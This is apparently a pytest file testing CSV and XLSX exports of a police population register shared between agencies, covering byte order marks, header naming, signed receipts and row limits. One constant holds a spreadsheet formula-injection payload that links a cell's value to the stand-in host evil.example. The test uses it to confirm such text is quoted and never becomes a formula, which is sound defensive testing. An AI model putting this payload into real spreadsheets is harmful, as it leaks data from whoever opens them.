"""Grant data opens in a spreadsheet (issue 16): CSV with a byte order mark unless a machine asks
for none, an XLSX workbook with the same values as the CSV, and headers of item names on request."""

import asyncio
import codecs
import csv
import hashlib
import io
import re
import subprocess
from datetime import date, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from broker.delivery import service
from catalog.datasets.models import DataItem
from catalog.tabular import read_table
from support.delivery_data import NAMES, POPULATION, as_csv, month, people, person
from support.identities import Identities
from support.processes import BROKER_SCRIPT, CLI_TIMEOUT_SECONDS, REPO_ROOT, environment
from support.sharing import Sharing, sharing

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'


@pytest.fixture
async def shared(
    app: FastAPI, client: httpx.AsyncClient, identities: Identities
) -> tuple[Sharing, dict[str, Any]]:
    """The police's population register (30 people, October 2026) granted to Development and
    Reform: names hashed, addresses withheld."""
    police = await sharing(app, client, identities, rows=30)
    await police.scenario()
    return police, await police.grant()


async def download(police: Sharing, grant: dict[str, Any], **params: str) -> httpx.Response:
    response = await police.client.get(
        f"/v1/grants/{grant['id']}/data", params=params, headers=police.requester
    )
    assert response.status_code == 200, response.text
    return response


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[list[str]]:
    """The workbook as the upload reader reads it (`catalog.tabular`), each cell as a person
    reads it: dates as ISO days, numbers as their digits, empty cells as empty text. No cell
    may be a formula."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    formulas = [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == [], "cells became formulas"
    table = read_table(content, is_header=lambda cells: cells[0] != "", filename="data.xlsx")
    assert (table.header_found, table.header_row) == (True, 1)
    return [table.header] + [row.texts() for row in table.rows]


async def test_a_csv_download_starts_with_a_bom_and_reads_as_chinese(
    shared: tuple[Sharing, dict[str, Any]],
) -> None:
    police, grant = shared
    response = await download(police, grant)

    assert response.content.startswith(codecs.BOM_UTF8)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    header, *rows = list(csv.reader(io.StringIO(response.content[3:].decode("utf-8"))))
    assert header == grant["columns"], "item codes head a download unless names are asked for"
    assert len(rows) == 30
    by_code = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["RK-JD"] for r in by_code[:3]] == [person(n)["RK-JD"] for n in (1, 2, 3)]
    assert {r["RK-JD"] for r in by_code} == {"城关街道", "东湖街道", "西山街道"}

    named = await download(police, grant, header="names")
    assert named.content.startswith(codecs.BOM_UTF8)
    names_header, *named_rows = csv_rows(named.content)
    assert names_header == [NAMES[code] for code in grant["columns"]]
    assert "所属街道" in names_header
    assert "公民身份号码" in names_header
    assert named_rows == rows, "names change the header only"


async def test_bom_false_gives_the_same_bytes_without_the_mark(
    shared: tuple[Sharing, dict[str, Any]],
) -> None:
    police, grant = shared
    for_people = await download(police, grant, format="csv")
    for_machines = await download(police, grant, format="csv", bom="false")

    assert not for_machines.content.startswith(codecs.BOM_UTF8)
    assert for_machines.content.startswith(b"RK-SFZH,")
    assert for_people.content == codecs.BOM_UTF8 + for_machines.content
    assert for_machines.headers["x-row-count"] == for_people.headers["x-row-count"] == "30"


async def test_the_receipt_of_a_bom_download_names_the_bytes_received(
    shared: tuple[Sharing, dict[str, Any]], database_url: str, tmp_path: Path
) -> None:
    police, grant = shared
    response = await download(police, grant, header="names")
    assert response.content.startswith(codecs.BOM_UTF8)
    receipt = await police.client.get(
        f"/v1/receipts/{response.headers['x-receipt-id']}", headers=police.requester
    )
    assert receipt.status_code == 200, receipt.text
    data = receipt.json()["claims"]["data"]
    assert data["sha256"] == hashlib.sha256(response.content).hexdigest()
    assert data["size_bytes"] == len(response.content) == int(response.headers["content-length"])

    (tmp_path / "receipt.jws").write_text(response.headers["x-receipt"])
    (tmp_path / "人口.csv").write_bytes(response.content)
    (tmp_path / "stripped.csv").write_bytes(response.content.removeprefix(codecs.BOM_UTF8))

    def verify(name: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [
                BROKER_SCRIPT,
                "receipts",
                "verify",
                str(tmp_path / "receipt.jws"),
                "--data",
                str(tmp_path / name),
            ],
            env=environment(database_url),
            cwd=REPO_ROOT,
            capture_output=True,
            text=True,
            timeout=CLI_TIMEOUT_SECONDS,
            check=False,
        )

    received, stripped = await asyncio.gather(
        asyncio.to_thread(verify, "人口.csv"), asyncio.to_thread(verify, "stripped.csv")
    )
    assert received.returncode == 0, received.stderr
    assert "is the file the receipt names" in received.stdout
    assert stripped.returncode == 1, "the mark is part of what the receipt signs"


async def test_an_xlsx_download_has_the_values_and_headers_of_the_csv(
    shared: tuple[Sharing, dict[str, Any]],
) -> None:
    police, grant = shared
    for header in ("codes", "names"):
        as_csv_file = await download(police, grant, header=header)
        workbook = await download(police, grant, format="xlsx", header=header)

        assert workbook.headers["content-type"] == XLSX_TYPE
        disposition = workbook.headers["content-disposition"]
        assert disposition == f'attachment; filename="{POPULATION["code"]}-2026-10-31.xlsx"'
        expected = csv_rows(as_csv_file.content)
        assert xlsx_rows(workbook.content) == expected
        assert workbook.headers["x-row-count"] == str(len(expected) - 1) == "30"

    sheet = load_workbook(io.BytesIO(workbook.content)).worksheets[0]
    assert sheet.title == POPULATION["code"]
    header_row, first = (list(row) for row in sheet.iter_rows(max_row=2, values_only=True))
    values = dict(zip(header_row, first, strict=True))
    assert values["年龄"] == 21, "numbers stay numbers"
    assert values["登记日期"] == datetime(2026, 10, 31), "dates are dates"
    assert values["公民身份号码"] == person(1)["RK-SFZH"], "an 18-digit ID stays text"
    assert re.fullmatch(r"[0-9a-f]{32}", str(values["姓名"])), "names hashed, as granted"
    assert values["居住地址"] is None, "addresses withheld, as the grant says"

    receipt = await police.client.get(
        f"/v1/receipts/{workbook.headers['x-receipt-id']}", headers=police.requester
    )
    data = receipt.json()["claims"]["data"]
    assert (data["format"], data["rows"]) == ("xlsx", 30)
    assert data["sha256"] == hashlib.sha256(workbook.content).hexdigest()


async def test_a_series_in_xlsx_names_its_period_columns_and_keeps_formulas_as_text(
    shared: tuple[Sharing, dict[str, Any]],
) -> None:
    police, grant = shared
    november = [{**row, "RK-DJRQ": "2026-11-30"} for row in people(3)]
    november[0]["RK-FWBM"] = FORMULA
    november[1]["RK-FWBM"] = "-5"
    published = await police.client.post(
        f"/v1/datasets/{POPULATION['code']}/releases",
        files={"file": ("人口-11月.csv", as_csv(november), "text/csv")},
        data=month(2026, 11),
        headers=police.steward,
    )
    assert published.status_code == 201, published.text

    series = {"from": "2026-10", "to": "2026-11", "header": "names"}
    workbook = await download(police, grant, format="xlsx", **series)
    as_csv_file = await download(police, grant, format="csv", **series)

    rows = xlsx_rows(workbook.content)
    assert rows == csv_rows(as_csv_file.content)
    header, *body = rows
    assert header[-2:] == ["数据起始日期", "数据截止日期"]
    assert len(body) == 33
    assert [row[-2:] for row in (body[0], body[-1])] == [
        ["2026-10-01", "2026-10-31"],
        ["2026-11-01", "2026-11-30"],
    ]
    houses = [row[header.index("房屋编码")] for row in body[30:]]
    assert houses[:2] == ["'" + FORMULA, "'-5"], "formula-like text quoted, as in the CSV"
    sheet = load_workbook(io.BytesIO(workbook.content)).worksheets[0]
    start = sheet.cell(row=2, column=len(header) - 1)
    assert isinstance(start, Cell)
    assert (start.is_date, start.value) == (True, datetime(2026, 10, 1))
    assert workbook.headers["content-disposition"].endswith(
        f'{POPULATION["code"]}-2026-10-01-2026-11-30.xlsx"'
    )


async def test_an_xlsx_past_the_row_limit_is_refused_naming_the_format_and_the_fix(
    shared: tuple[Sharing, dict[str, Any]], monkeypatch: pytest.MonkeyPatch
) -> None:
    police, grant = shared
    monkeypatch.setattr(service, "XLSX_MAX_ROWS", 29)
    refused = await police.client.get(
        f"/v1/grants/{grant['id']}/data", params={"format": "xlsx"}, headers=police.requester
    )

    assert refused.status_code == 422, refused.text
    assert refused.headers["content-type"] == "application/problem+json"
    problem = refused.json()
    assert "30 rows" in problem["detail"]
    assert "29" in problem["detail"]
    [error] = problem["errors"]
    assert error["location"] == "query.format"
    assert "format=csv" in error["message"]
    assert "format=parquet" in error["message"]
    assert (problem["rows"], problem["max_rows"]) == (30, 29)
    assert await police.events("data.downloaded") == [], "nothing left, nothing recorded"
    receipts = await police.client.get(
        f"/v1/grants/{grant['id']}/receipts", headers=police.requester
    )
    assert receipts.json()["items"] == []

    within = await download(police, grant, format="csv")
    assert within.headers["x-row-count"] == "30", "CSV has no such limit"


def test_names_that_two_items_share_are_told_apart_by_code() -> None:
    items = [
        DataItem(code="A-1", name="金额"),
        DataItem(code="A-2", name="金额"),
        DataItem(code="A-3", name="户数"),
    ]
    labels = service.column_labels(items, "names")
    assert (labels["A-1"], labels["A-2"], labels["A-3"]) == ("金额 (A-1)", "金额 (A-2)", "户数")
    assert labels["period_start"] == "数据起始日期"
    assert service.column_labels(items, "codes") == {}


def test_xlsx_cells_keep_long_integers_as_text_and_quote_formulas() -> None:
    assert service.xlsx_value(110101199003077777) == "110101199003077777"
    assert service.xlsx_value(123456789012345) == 123456789012345
    assert service.xlsx_value(-(10**15)) == str(-(10**15))
    assert service.xlsx_value(True) is True
    assert service.xlsx_value(date(2026, 1, 1)) == date(2026, 1, 1)
    assert service.xlsx_value("=1+1") == "'=1+1"
